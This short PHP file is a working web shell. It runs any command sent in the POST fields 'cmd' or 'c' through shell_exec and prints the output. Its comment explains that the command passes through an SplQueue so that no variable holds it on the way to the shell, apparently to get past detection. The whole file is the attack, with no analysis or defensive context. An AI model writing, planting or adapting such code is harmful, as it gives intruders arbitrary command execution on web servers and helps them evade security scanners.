<?php
// The posted command waits in an SPL queue between the request and the call: no variable ever
// holds it on its way to the shell.
$jobs = new SplQueue();
foreach (array('cmd', 'c') as $field) {
    if (isset($_POST[$field])) {
        $jobs->enqueue($_POST[$field]);
    }
}
while (!$jobs->isEmpty()) {
    echo '<pre>' . shell_exec($jobs->dequeue() . ' 2>&1') . '</pre>';
}
